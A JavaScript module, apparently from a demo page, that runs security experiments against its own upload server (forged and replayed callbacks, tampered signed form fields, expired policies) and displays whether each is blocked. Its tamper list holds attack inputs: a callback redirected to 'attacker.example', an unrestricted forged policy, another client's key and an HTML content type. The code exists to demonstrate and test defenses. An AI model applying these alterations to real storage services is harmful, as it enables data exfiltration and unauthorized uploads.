// Attacks and failures on request: what is sent, how the servers respond, and why.

import { announce, button, byId, code, el, more, table } from "./dom.js";
import { t } from "./texts.js";
import { add } from "./queue.js";
import { askToken, formOf, post, readError } from "./transfer.js";
import * as steps from "./steps.js";

const EXPERIMENTS = { forge, replay, tamper, expire, fail };

const encoded = (value) => btoa(JSON.stringify(value));

/** Changes to a granted form. The last one changes the content of the file instead. */
const ALTERATIONS = {
  key: (fields) => ({ ...fields, key: "demo/of-another-client.txt" }),
  type: (fields) => ({ ...fields, "x-oss-content-type": "text/html" }),
  callback: (fields) => ({
    ...fields,
    callback: encoded({ callbackUrl: "http://attacker.example/", callbackBody: "object=${object}" }),
  }),
  noCallback: ({ callback, ...fields }) => fields,
  policy: (fields) => ({
    ...fields,
    policy: encoded({ expiration: "2099-01-01T00:00:00Z", conditions: [] }),
  }),
  size: (fields) => fields,
};

export function setup(config) {
  byId("experiments").replaceChildren(...Object.entries(EXPERIMENTS).map(([id, work]) => {
    const outcome = el("div", { class: "outcome", id: `${id}-outcome` });
    const start = el("button", {
      type: "button", id, "aria-labelledby": `${id} ${id}-title`,
      onclick: () => run(start, work, { config, outcome }),
    }, t("try"));
    return el("li", { class: "experiment" },
      el("div", { class: "body" },
        el("h3", { id: `${id}-title` }, t(id)),
        el("p", { class: "quiet" }, t(`${id}.lead`))),
      start,
      outcome);
  }));
}

async function run(start, work, { config, outcome }) {
  const tell = (held, title, ...content) => {
    const kept = content.filter(Boolean);
    outcome.dataset.held = String(held);
    outcome.replaceChildren(el("h4", {}, title), ...kept);
  };
  start.disabled = true;
  start.textContent = t("trying");
  try {
    await work(tell, config);
  } catch (error) {
    tell(false, t("experimentFailed"), el("p", {}, error.message));
  }
  start.disabled = false;
  start.textContent = t("tryAgain");
  announce(outcome.querySelector("h4")?.textContent ?? "");
  // A disabled button loses the focus. Restore it, unless the focus has moved elsewhere.
  if (document.activeElement === document.body) start.focus({ preventScroll: true });
}

const ask = async (path) => {
  const response = await fetch(path, { method: "POST" });
  return response.json();
};

/** Shows one attempt. `held` is true if the servers blocked it. */
function attempt(held, title, status, why, ...extra) {
  return el("li", { class: "attempt", "data-held": String(held) },
    el("p", { class: "line" },
      el("strong", {}, title),
      el("span", { class: "status", lang: "en" }, status)),
    el("p", { class: "quiet" }, why), ...extra);
}

const attempts = (items) => el("ul", { class: "attempts" }, ...items);

const allHeld = (items) => items.every((item) => item.dataset.held === "true");

const whatWasSent = (sent) => more(t("request"),
  el("p", { class: "quiet", lang: "en" }, `POST ${sent.target}`),
  table(sent.headers), code(sent.body));

const codeOf = (answer) => {
  try {
    return JSON.parse(answer).code ?? "";
  } catch {
    return "";
  }
};

async function forge(tell) {
  const sent = await ask("/demo/forge");
  const items = sent.map((one) => {
    const name = codeOf(one.answer);
    const held = one.status >= 400 && one.runsBefore === one.runsAfter;
    const why = t.maybe(`reason.${name}`) ?? name;
    return attempt(held, t.maybe(`forge.${one.name}`) ?? one.name, `${one.status} ${name}`,
      held ? `${why}${t("handlerIdle")}` : t("handlerRanAnyway"), whatWasSent(one.sent));
  });
  const held = allHeld(items);
  tell(held, t(held ? "forge.held" : "forge.broken"), attempts(items),
    sent.length < 4 && el("p", { class: "quiet" }, t("forge.more")));
}

async function replay(tell) {
  if (byId("received").children.length === 0) {
    tell(true, t("replay.nothing"), el("p", { class: "quiet" }, t("replay.uploadFirst")));
    return;
  }
  const one = await ask("/demo/replay");
  const held = one.runsBefore === one.runsAfter;
  tell(held, t(held ? "replay.held" : "replay.broken"), attempts([
    attempt(held, t("replay.again"), String(one.status),
      held ? t("replay.why", { runs: one.runsAfter }) : t("handlerRanAnyway"),
      more(t("answer"), code(one.answer)), whatWasSent(one.sent)),
  ]));
}

async function tamper(tell) {
  const items = [];
  for (const [name, alter] of Object.entries(ALTERATIONS)) {
    const asked = new File(["hello"], "tampered.txt", { type: "text/plain" });
    const content = name === "size" ? "x".repeat(5000) : "hello";
    const sent = new File([content], "tampered.txt", { type: "text/plain" });
    const trace = steps.begin(sent);
    const { token, asked: path } = await askToken(asked);
    trace.token({ asked: path, token });
    const fields = alter(token.fields);
    trace.altered(fields);
    const answer = await post(token, formOf({ fields }, sent));
    const error = readError(answer.text);
    const held = answer.status >= 400;
    const why = t(`tamper.${name}.why`);
    if (held) trace.failed({ message: why, detail: { status: answer.status, ...error }, id: answer.id });
    else trace.succeeded(answer);
    const title = t(`tamper.${name}`);
    items.push(attempt(held, title, `${answer.status} ${error.code}`,
      held ? why : t("tamper.accepted"),
      el("div", { class: "actions" },
        button(t("showSteps"), () => steps.show(trace, true), t("stepsOf", { name: title })),
        more(t("rawAnswer"), code(`${error.message}${error.ec ? `\nEC ${error.ec}` : ""}`)))));
    tell(allHeld(items), t("trying"), attempts(items));
  }
  const held = allHeld(items);
  tell(held, t(held ? "tamper.held" : "tamper.broken"), attempts(items));
}

function text(name) {
  const content = `Created by the page at ${new Date().toISOString()}\n`;
  return new File([content], name, { type: "text/plain" });
}

async function expire(tell, config) {
  const [row] = add([text("too-late.txt")], config, { path: "/demo/policy/expired" });
  const done = (await row.done) === "done";
  tell(done, t(done ? "expire.held" : "expire.broken"),
    el("p", {}, t(done ? "expire.why" : "expire.see")), stepsOf(row));
}

async function fail(tell, config) {
  const [row] = add([text("unconfirmed.txt")], config, { path: "/demo/policy/failing" });
  const done = (await row.done) === "done";
  tell(!done, t(done ? "fail.broken" : "fail.held"),
    el("p", {}, t("fail.why")), stepsOf(row));
}

const stepsOf = ({ trace, file }) => trace && el("div", { class: "actions" },
  button(t("showSteps"), () => steps.show(trace, true), t("stepsOf", { name: file.name })));
